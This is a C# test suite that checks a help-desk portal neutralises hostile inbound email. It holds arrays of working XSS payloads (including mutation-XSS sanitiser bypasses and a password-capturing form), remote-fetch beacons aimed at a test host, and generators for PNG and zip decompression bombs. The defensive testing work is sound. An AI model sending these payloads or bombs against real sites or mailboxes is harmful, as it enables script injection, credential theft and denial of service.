using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using AngleSharp.Dom;
using Portal.Web.Tests.Stage;

namespace Portal.Web.Tests.Attacks;

/// <summary>What a mail brings is looked at by an agent: nothing of it runs there, fetches anything or fills the house.</summary>
public sealed class HostileMail : PortalTest
{
    private const string Eve = "eve@ailleurs.example";

    private static readonly string[] Scripts =
    [
        "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src='x'/onerror='alert(1)'>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
        "<a href='javascript:alert(1)'>clic</a>", "<a href='JaVa&#x09;Script:alert(1)'>clic</a>", "<a href='&#106;avascript&colon;alert(1)'>clic</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>clic</a>", "<a href='vbscript:msgbox(1)'>clic</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>",
        "<textarea><img src=x onerror=alert(1)></textarea>", "<xmp><img src=x onerror=alert(1)></xmp>", "<template><script>alert(1)</script></template>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data='javascript:alert(1)'></object>", "<embed src='javascript:alert(1)'>",
        "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<button formaction='javascript:alert(1)'>clic</button>",
        "<form action='https://e.test/vol'><input name=motdepasse type=password></form>", "&lt;img src=x onerror=alert(1)&gt;",
        "<div style='width:expression(alert(1))'>x</div>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<p id=vole><a name=vole>x</a></p>",
    ];

    private static readonly string[] Fetches =
    [
        "<img src='https://e.test/pixel.png'>", "<img src='//e.test/pixel.png' width=1 height=1>", "<img srcset='https://e.test/a.png 1x, https://e.test/b.png 2x'>",
        "<picture><source srcset='https://e.test/a.webp'><img src='https://e.test/a.png'></picture>", "<base href='https://e.test/'>",
        "<meta http-equiv=refresh content='0;url=https://e.test/'>", "<link rel=stylesheet href='https://e.test/s.css'>", "<link rel=dns-prefetch href='//e.test'>",
        "<style>@import 'https://e.test/s.css';</style>", "<style>input[value^=a]{background:url(https://e.test/a)}</style>",
        "<div style=\"background:url('https://e.test/x.png')\">x</div>", "<p style='background:u\\72l(https://e.test/x.png)'>x</p>",
        "<table background='https://e.test/x.png'><tr><td>x</td></tr></table>", "<body background='https://e.test/x.png'>", "<video src='https://e.test/v' poster='https://e.test/p.png'></video>",
        "<audio src='https://e.test/a.mp3' autoplay></audio>", "<iframe src='https://e.test/'></iframe>", "<object data='https://e.test/'></object>", "<embed src='https://e.test/'>",
        "<input type=image src='https://e.test/x.png'>", "<svg><image href='https://e.test/x.png'/></svg>", "<svg><use xlink:href='https://e.test/x.svg#a'/></svg>", "<v:imagedata src='https://e.test/x.png'>",
        "<!--[if mso]><v:fill src='https://e.test/x.png'><![endif]-->", "<link rel=preload as=image href='https://e.test/x.png'>",
    ];

    [Fact]
    public async Task A55_no_script_of_a_mail_runs_where_the_team_reads_it()
    {
        using var agent = await App.SignedInAsync(Cast.Agent);

        foreach (var page in await SeenAsync(agent, Scripts))
        {
            Assert.Empty(page.QuerySelectorAll("body script:not([src^='/']), iframe, object, embed, base, math, body style, form[action*='e.test'], input[type=password], #vole, [name=vole]"));
            Assert.DoesNotContain(page.Body!.QuerySelectorAll("*"), element => element.Attributes.Any(attribute => attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)
                || attribute.Name is "srcdoc" || Scheme(attribute.Value) is "javascript" or "vbscript" or "data"));
        }
    }

    [Fact]
    public async Task A55_A57_no_picture_style_or_frame_of_a_mail_is_fetched_by_being_looked_at()
    {
        using var agent = await App.SignedInAsync(Cast.Agent);

        foreach (var page in await SeenAsync(agent, Fetches))
        {
            // A link may lead there: it is followed by a click alone.
            Assert.DoesNotContain(
                page.All.Where(element => element.LocalName != "a"),
                element => element.Attributes.Any(attribute => attribute.Value.Contains("e.test", StringComparison.OrdinalIgnoreCase)));
            Assert.DoesNotContain(page.QuerySelectorAll("style"), style => style.TextContent.Contains("e.test", StringComparison.OrdinalIgnoreCase));
            Assert.Empty(page.QuerySelectorAll("meta[http-equiv=refresh]"));
        }
    }

    [Fact]
    public async Task A61_a_picture_of_2_500_million_pixels_and_an_archive_full_of_nothing_are_left_unopened_and_the_words_arrive()
    {
        var received = await App.ReceiveAsync(MailWith(("photo.png", Picture(50_000, 50_000)), ("tout.zip", Archive(200_000_000))));

        Assert.Equal("TakenIn", received.State);
        Assert.Equal(["0"], await App.ReadAsync("SELECT COUNT(*) FROM Attachments"));
        using var agent = await App.SignedInAsync(Cast.Agent);
        Assert.Contains("tout.zip", (await agent.GetAsync(Original(received))).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A61_a_message_posted_compressed_is_refused_before_it_is_opened()
    {
        var server = App.Program(await App.IssueTokenAsync("Serveur", "mail:inbound"));
        using var bomb = new ByteArrayContent(Packed(10_000_000)) { Headers = { ContentType = new MediaTypeHeaderValue("message/rfc822"), ContentEncoding = { "gzip" } } };

        var answer = await server.PostAsync("/api/v1/mail/inbound", bomb, TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.UnsupportedMediaType, answer.StatusCode);
        Assert.Equal(["0"], await App.ReadAsync("SELECT COUNT(*) FROM IncomingMail"));
    }

    /// <summary>Each in a mail of its own, as the ticket and as the message show it; the words around it are there.</summary>
    private async Task<List<IDocument>> SeenAsync(Visitor agent, string[] markups)
    {
        var pages = new List<IDocument>();
        foreach (var (number, markup) in markups.Index())
        {
            var from = string.Create(CultureInfo.InvariantCulture, $"eve{number}@ailleurs.example");
            var received = await App.ReceiveAsync(Encoding.UTF8.GetBytes(
                $"From: {from}\r\nTo: {PortalApp.Desk}\r\nSubject: Essai\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Avant tout, bonjour.</p>{markup}"));
            var seen = new[] { await agent.GetAsync($"/agents/fils/{await App.TicketOfAsync(received)}"), await agent.GetAsync(Original(received)) };
            Assert.All(seen, page => Assert.Contains("Avant tout, bonjour.", page.Text, StringComparison.Ordinal));
            pages.AddRange(seen.Select(page => page.Html));
        }

        return pages;
    }

    private static string Original(Received received) => string.Create(CultureInfo.InvariantCulture, $"/agents/courrier/{received.Id}");

    private static string Scheme(string address) => string.Concat(address.Where(letter => letter > ' ')).Split(':', 2) is [var scheme, _] ? scheme.ToLowerInvariant() : "";

    /// <summary>Says its size, and has nothing to show.</summary>
    private static byte[] Picture(int width, int height)
    {
        var head = new byte[13];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(head, width);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(head.AsSpan(4), height);
        (head[8], head[9]) = (8, 2);
        return [0x89, .. "PNG\r\n"u8, 0x1A, (byte)'\n', .. Chunk("IHDR"u8, head), .. Chunk("IDAT"u8, Packed(1_000)), .. Chunk("IEND"u8, [])];
    }

    private static byte[] Chunk(ReadOnlySpan<byte> type, byte[] content)
    {
        var named = (byte[])[.. type, .. content];
        var (length, sum) = (new byte[4], new byte[4]);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(length, content.Length);
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(sum, SumOf(named));
        return [.. length, .. named, .. sum];
    }

    private static uint SumOf(byte[] bytes)
    {
        var sum = uint.MaxValue;
        foreach (var next in bytes)
        {
            sum ^= next;
            for (var bit = 0; bit < 8; bit++)
                sum = (sum & 1) == 0 ? sum >> 1 : (sum >> 1) ^ 0xEDB88320;
        }

        return ~sum;
    }

    private static byte[] Packed(int zeroes)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest))
            zlib.Write(new byte[zeroes]);
        return packed.ToArray();
    }

    private static byte[] Archive(int zeroes)
    {
        using var packed = new MemoryStream();
        using (var archive = new ZipArchive(packed, ZipArchiveMode.Create, leaveOpen: true))
        using (var entry = archive.CreateEntry("rien.txt", CompressionLevel.SmallestSize).Open())
        {
            var block = new byte[1_000_000];
            for (var written = 0; written < zeroes; written += block.Length)
                entry.Write(block);
        }

        return packed.ToArray();
    }

    private static byte[] MailWith(params (string Name, byte[] Bytes)[] files)
    {
        var parts = files.Select(file =>
            $"--frontiere\r\nContent-Type: application/octet-stream; name=\"{file.Name}\"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"{file.Name}\"\r\n\r\n{Convert.ToBase64String(file.Bytes, Base64FormattingOptions.InsertLineBreaks)}\r\n");
        return Encoding.UTF8.GetBytes(
            $"From: {Eve}\r\nTo: {PortalApp.Desk}\r\nSubject: Des fichiers\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"frontiere\"\r\n\r\n"
            + $"--frontiere\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nVoici mes fichiers.\r\n{string.Concat(parts)}--frontiere--\r\n");
    }
}
